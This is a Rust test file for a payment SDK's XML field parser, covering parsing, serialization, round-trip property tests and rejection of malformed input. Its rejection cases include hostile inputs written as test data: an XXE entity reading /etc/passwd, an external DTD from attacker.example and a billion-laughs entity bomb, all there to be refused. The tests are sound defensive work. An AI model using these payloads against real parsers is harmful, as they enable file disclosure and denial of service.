//! What is read, what is refused, and that what is written reads back.

use proptest::prelude::{ProptestConfig, Strategy, any, prop, prop_assert_eq, proptest};
use tongbao_sdk::v2::{Fields, XmlError};

fn parse(document: &str) -> Result<Fields, XmlError> {
    Fields::parse(document.as_bytes())
}

#[test]
fn texts_stand_bare_or_in_cdata_or_in_pieces() {
    for (document, text) in [
        ("<xml><a>1</a></xml>", "1"),
        ("<xml><a><![CDATA[1]]></a></xml>", "1"),
        ("<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xml>\n  <a>1</a>\n</xml>\n", "1"),
        ("<?xml version='1.0'?><xml><a>1</a></xml>", "1"),
        ("<xml><a><![CDATA[x]]>y<![CDATA[z]]></a></xml>", "xyz"),
        ("<xml><a><![CDATA[]]]]><![CDATA[>]]></a></xml>", "]]>"),
        ("<xml><a>x&amp;y&lt;&gt;&quot;&apos;&#65;&#x58;</a></xml>", "x&y<>\"'AX"),
        ("<xml><a><![CDATA[&amp;<b>]]></a></xml>", "&amp;<b>"),
        ("<xml><a></a></xml>", ""),
        ("<xml><a/></xml>", ""),
        ("<xml><a> 1\r\n</a></xml>", " 1\r\n"),
        ("<xml><a><![CDATA[深圳🍵]]></a></xml>", "深圳🍵"),
        ("<xml >\n<a\n>1</a\n></xml>", "1"),
    ] {
        assert_eq!(parse(document).unwrap().get("a"), Some(text), "{document}");
    }
    assert!(parse("<xml/>").unwrap().is_empty());
    assert!(parse("<xml></xml>").unwrap().is_empty());
}

#[test]
fn what_the_platform_never_writes_is_refused_by_name() {
    for (document, code, element) in [
        ("", "xml_not_xml", None),
        ("SUCCESS", "xml_not_xml", None),
        ("{\"a\":1}", "xml_not_xml", None),
        ("<html><body>404</body></html>", "xml_root", Some("html")),
        ("<root><a>1</a></root>", "xml_root", Some("root")),
        ("<!DOCTYPE html><html></html>", "xml_doctype", None),
        (
            "<!DOCTYPE xml [<!ENTITY a SYSTEM \"file:///etc/passwd\">]><xml><a>&a;</a></xml>",
            "xml_doctype",
            None,
        ),
        ("<!DOCTYPE xml SYSTEM \"http://attacker.example/x.dtd\"><xml></xml>", "xml_doctype", None),
        ("<xml><!DOCTYPE x><a>1</a></xml>", "xml_doctype", None),
        ("<xml><a>&lol9;</a></xml>", "xml_entity", Some("a")),
        ("<xml><a>&#0;</a></xml>", "xml_entity", Some("a")),
        ("<xml><a>&#xD800;</a></xml>", "xml_entity", Some("a")),
        ("<xml><a>&#1;</a></xml>", "xml_character", Some("a")),
        ("<xml>&amp;</xml>", "xml_stray_text", None),
        ("<xml><a>x & y</a></xml>", "xml_entity", Some("a")),
        ("<xml><?php echo 1 ?><a>1</a></xml>", "xml_processing_instruction", None),
        ("<?pi?><xml></xml>", "xml_processing_instruction", None),
        ("<xml><?xml version=\"1.0\"?></xml>", "xml_processing_instruction", None),
        ("<xml><!-- 1 --><a>1</a></xml>", "xml_comment", None),
        ("<xml><a>1<!-- --></a></xml>", "xml_comment", None),
        ("<xml xmlns=\"x\"><a>1</a></xml>", "xml_attribute", Some("xml")),
        ("<xml><a b=\"1\">1</a></xml>", "xml_attribute", Some("a")),
        ("<xml><a b>1</a></xml>", "xml_attribute", Some("a")),
        ("<xml><a><b>1</b></a></xml>", "xml_nested", Some("b")),
        ("<xml><a><b/></a></xml>", "xml_nested", Some("b")),
        ("<xml><a>1</a><b>2</b><a>3</a></xml>", "xml_duplicate", Some("a")),
        ("<xml><a>1</a><a/></xml>", "xml_duplicate", Some("a")),
        ("<xml><x:a>1</x:a></xml>", "xml_name", Some("x:a")),
        ("<xml><店>1</店></xml>", "xml_name", Some("店")),
        ("<xml><1>1</1></xml>", "xml_name", Some("1")),
        ("<xml>text<a>1</a></xml>", "xml_stray_text", None),
        ("<xml><![CDATA[text]]></xml>", "xml_stray_text", None),
        ("text<xml></xml>", "xml_not_xml", None),
        ("<xml><a>1</a>", "xml_truncated", Some("xml")),
        ("<xml><a>1", "xml_truncated", Some("a")),
        ("<xml><a><![CDATA[1]]", "xml_truncated", Some("a")),
        ("<xml><a>1</b></xml>", "xml_ill_formed", Some("a")),
        ("<xml><a>1</a></xml>x", "xml_trailing", None),
        ("<xml></xml><xml></xml>", "xml_trailing", None),
        ("<xml></xml></xml>", "xml_trailing", None),
        ("<?xml version=\"1.0\" encoding=\"GBK\"?><xml></xml>", "xml_not_utf8", None),
    ] {
        let error = parse(document).unwrap_err();
        assert_eq!((error.code(), error.element()), (code, element), "{document}: {error}");
    }
    let error = Fields::parse(b"<xml><a>\xff</a></xml>").unwrap_err();
    assert_eq!(error, XmlError::NotUtf8);
    let error = Fields::parse("<xml><a>\u{1}</a></xml>".as_bytes()).unwrap_err();
    assert_eq!((error.code(), error.element()), ("xml_character", Some("a")));
}

#[test]
fn bombs_are_refused_before_they_grow() {
    let entities: String =
        (1..10).map(|n| format!("<!ENTITY lol{n} \"&lol{m};&lol{m};\">", m = n - 1)).collect();
    let bomb = format!(
        "<?xml version=\"1.0\"?><!DOCTYPE lolz [<!ENTITY lol0 \"lol\">{entities}]><xml><a>&lol9;</a></xml>"
    );
    assert_eq!(parse(&bomb), Err(XmlError::DocType));

    let many: String = (0..10_000).map(|n| format!("<{}/>", name(n))).collect();
    let error = parse(&format!("<xml>{many}</xml>")).unwrap_err();
    assert_eq!((error.code(), error.element()), ("xml_too_many_elements", Some(&*name(400))));

    let long = format!("<xml><a>{}</a></xml>", "x".repeat(64 * 1024));
    assert_eq!(parse(&long).unwrap_err().code(), "xml_too_large");
    let deep = "<a>".repeat(10_000);
    assert_eq!(parse(&format!("<xml>{deep}</xml>")).unwrap_err().code(), "xml_nested");
    let long_name = "n".repeat(65);
    let error = parse(&format!("<xml><{long_name}/></xml>")).unwrap_err();
    assert_eq!(error.element().map(str::len), Some(64), "names are told on only so far");
}

/// Short names, so that ten thousand of them fit into a message.
fn name(n: usize) -> String {
    let letter = |n: usize| char::from(b'a' + u8::try_from(n % 26).unwrap());
    [letter(n / 676), letter(n / 26), letter(n)].iter().collect()
}

#[test]
fn what_is_written_is_wrapped_where_it_must_be() {
    let fields = Fields::new()
        .with("total_fee", "1")
        .with("body", "深圳分店")
        .with("attach", "plain")
        .with("goods_tag", "a&b");
    assert_eq!(
        fields.to_xml().unwrap(),
        "<xml><attach><![CDATA[plain]]></attach><body>深圳分店</body><goods_tag><![CDATA[a&b]]></goods_tag><total_fee>1</total_fee></xml>"
    );
    let error = |name, text| Fields::new().with(name, text).to_xml().unwrap_err().code();
    assert_eq!(error("a", "x]]>y"), "xml_cdata_end");
    assert_eq!(error("a", "x\u{7}y"), "xml_character");
    assert_eq!(error("a b", "1"), "xml_name");
    assert_eq!(error("", "1"), "xml_name");
}

#[test]
fn a_text_is_replaced_by_the_next_of_its_name() {
    let fields = Fields::new().with("a", "1").with("b", "2").with("a", "3");
    assert_eq!(fields.len(), 2);
    assert_eq!(fields.iter().collect::<Vec<_>>(), [("a", "3"), ("b", "2")]);
    assert_eq!(fields, Fields::new().with("b", "2").with("a", "3"));
    assert_eq!(format!("{fields:?}"), r#"["a", "b"]"#, "texts are not printed");
}

/// Texts that can be sent.
fn sendable() -> impl Strategy<Value = String> {
    prop::collection::vec(prop::char::any(), 0..20)
        .prop_map(|text| {
            text.into_iter().filter(|c| !c.is_control() || "\t\n\r".contains(*c)).collect::<String>()
        })
        .prop_filter("characters of XML", |text| {
            !text.contains("]]>") && !text.contains(['\u{fffe}', '\u{ffff}'])
        })
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(500))]

    #[test]
    fn what_is_written_reads_back(elements in prop::collection::btree_map("[a-zA-Z_][a-zA-Z0-9_]{0,12}", sendable(), 0..30)) {
        let fields: Fields = elements.iter().map(|(name, text)| (name.as_str(), text.as_str())).collect();
        let read = Fields::parse(fields.to_xml().unwrap().as_bytes()).unwrap();
        prop_assert_eq!(read.iter().collect::<Vec<_>>(), fields.iter().collect::<Vec<_>>());
    }

    #[test]
    fn arbitrary_bytes_never_panic(bytes in prop::collection::vec(any::<u8>(), 0..300)) {
        let _ = Fields::parse(&bytes);
    }

    /// Close to XML, so that more than the first byte is reached.
    #[test]
    fn arbitrary_markup_never_panics(pieces in prop::collection::vec(
        prop::sample::select(vec!["<xml>", "</xml>", "<a>", "</a>", "<a/>", "<![CDATA[", "]]>", "&amp;", "&x;", "&#1;", "&", "<!--", "-->", "<?", "?>", "<!DOCTYPE", ">", "<", "x", " ", "\u{0}", "深"]),
        0..24,
    )) {
        if let Ok(fields) = Fields::parse(pieces.concat().as_bytes()) {
            prop_assert_eq!(fields.len() <= 1, true, "only one name is in the pieces");
        }
    }
}
